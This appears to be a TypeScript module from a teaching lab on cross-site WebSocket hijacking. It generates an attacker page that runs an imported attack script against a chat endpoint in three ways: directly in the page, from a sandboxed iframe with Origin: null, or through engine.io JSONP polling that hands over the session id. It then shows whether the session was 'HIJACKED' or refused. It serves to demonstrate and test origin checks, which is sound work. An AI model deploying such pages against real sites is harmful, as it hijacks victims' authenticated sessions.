import type { ChatEndpoint } from '../chat-endpoint.js';
import { attackClientTag, attackScript, jsonpAttackScript } from './attack-script.js';
import { PAGE_ICON } from './chat-page.js';

/**
 * Where the attack runs:
 * - `page`: in the attacker's page itself; the handshake carries the page's origin;
 * - `sandboxed-iframe`: in an `<iframe sandbox="allow-scripts">` of that page. The frame's
 *   origin is opaque, so its handshake carries `Origin: null`, which any site can produce:
 *   the reason `'null'` must not be an allowed origin;
 * - `jsonp` (Socket.IO only): no socket at all. A `<script>` tag loads engine.io's JSONP
 *   polling handshake: a no-cors GET, with the victim's cookies and without `Origin`, whose
 *   answer hands the page the session id (`jsonpAttackScript`).
 */
export type AttackLaunch = 'page' | 'sandboxed-iframe' | 'jsonp';

/** The attacker page's path on the attacker's server, per launch. */
export const ATTACKER_PAGE_PATHS: Readonly<Record<AttackLaunch, string>> = {
  page: '/',
  'sandboxed-iframe': '/sandboxed',
  jsonp: '/jsonp',
};

/** Whether `launch` can attack `target`: JSONP polling is engine.io's, so Socket.IO only. */
export function launchApplies(target: ChatEndpoint, launch: AttackLaunch): boolean {
  return launch !== 'jsonp' || target.transport === 'socket.io';
}

export function attackerPage(target: ChatEndpoint, launch: AttackLaunch = 'page'): string {
  if (!launchApplies(target, launch)) {
    throw new Error(`The ${launch} attack needs a Socket.IO target, not ${target.transport}.`);
  }
  const jsonp = launch === 'jsonp';
  const script = jsonp ? jsonpAttackScript(target.url) : attackScript(target);
  const clientTag = jsonp ? '' : attackClientTag(target);
  const frameDocument = `<!doctype html><meta charset="utf-8">${clientTag}<script>
${script}
attack((outcome) => parent.postMessage(outcome, '*'));
</script>`;
  const backToPage = `<a href="${ATTACKER_PAGE_PATHS.page}">Run it in the page itself</a>.`;
  const what = jsonp
    ? `It opens no socket: a <code>&lt;script&gt;</code> tag loads the chat's engine.io handshake at
<code>${target.url}/socket.io/?EIO=4&amp;transport=polling&amp;j=0</code> (JSONP polling). That
request carries your chat cookie and no <code>Origin</code> header, and its answer holds the
session id, which this page hands to its own server to drive the session.`
    : `It tries to open the chat's socket at <code>${target.url}</code> (${target.transport}).`;
  const where = {
    page: `Your browser attaches your chat session cookie by itself, because this page is on the same
site (another port of the same host). <a href="${ATTACKER_PAGE_PATHS['sandboxed-iframe']}">Run it
from a sandboxed iframe (<code>Origin: null</code>)</a>.${
      launchApplies(target, 'jsonp')
        ? ` <a href="${ATTACKER_PAGE_PATHS.jsonp}">Run it with a <code>&lt;script&gt;</code> tag
(JSONP polling, no <code>Origin</code>)</a>.`
        : ''
    }`,
    'sandboxed-iframe': `The attack runs in a sandboxed iframe of this page: its origin is opaque, so the
handshake says <code>Origin: null</code>. ${backToPage}`,
    jsonp: `Your browser attaches your chat session cookie to the script request too. ${backToPage}`,
  }[launch];
  return `<!doctype html>
<html lang="en">
<head><meta charset="utf-8"><title>Totally harmless page</title>
${PAGE_ICON}
<style>body{font:16px system-ui;max-width:44rem;margin:2rem auto;padding:0 1rem}#result{padding:1rem;border-radius:.5rem;background:#eee}.stolen{background:#fdd!important}.refused{background:#dfd!important}</style>
${clientTag}
</head>
<body>
<h1>A page on another origin</h1>
<p>This page's origin is <code id="origin"></code>. ${what} ${where}</p>
<div id="result">Attacking…</div>
<p><button id="again">Try again</button></p>
<script>
${script}
document.getElementById('origin').textContent = location.origin;
const result = document.getElementById('result');
let reported = false;
function show(outcome) {
  if (reported) return;
  reported = true;
  window.attackOutcome = outcome;
  if (outcome.stolen) {
    result.className = 'stolen';
    result.textContent = 'HIJACKED: the socket opened with your session and answered: ' + JSON.stringify(outcome.stolen);
  } else if (outcome.scriptError) {
    result.className = 'refused';
    result.textContent = 'Refused: the handshake script failed to load, so this page got no session id. The server log says why.';
  } else if (outcome.refused) {
    result.className = 'refused';
    result.textContent = 'Refused: the handshake was rejected before the socket opened (' + (outcome.connectError ?? 'error event, close code ' + outcome.closeCode) + '). The server log says why.';
  } else if (outcome.relayFailed) {
    result.textContent = "The attacker's server could not use the session id: " + outcome.relayFailed;
  } else {
    result.textContent = 'The socket opened but closed before answering (' + [outcome.closeCode, outcome.reason].filter((part) => part !== undefined).join(' ') + '). Log in on the chat page first.';
  }
}
${launch === 'sandboxed-iframe' ? sandboxedLauncher(frameDocument) : 'function launch() { attack(show); }'}
function run() { reported = false; result.className = ''; result.textContent = 'Attacking…'; launch(); }
document.getElementById('again').onclick = run;
run();
</script>
</body>
</html>`;
}

/** Runs the attack in a fresh sandboxed frame, which reports back with `postMessage`. */
function sandboxedLauncher(frameDocument: string): string {
  return `let frame;
window.addEventListener('message', (event) => {
  if (frame && event.source === frame.contentWindow) show(event.data);
});
function launch() {
  frame?.remove();
  frame = document.createElement('iframe');
  frame.setAttribute('sandbox', 'allow-scripts');
  frame.hidden = true;
  frame.srcdoc = ${scriptLiteral(frameDocument)};
  document.body.append(frame);
}`;
}

/** A JavaScript string literal that is safe inside `<script>`: no `</script>` can end it. */
function scriptLiteral(text: string): string {
  return JSON.stringify(text).replaceAll('<', '\\u003c');
}
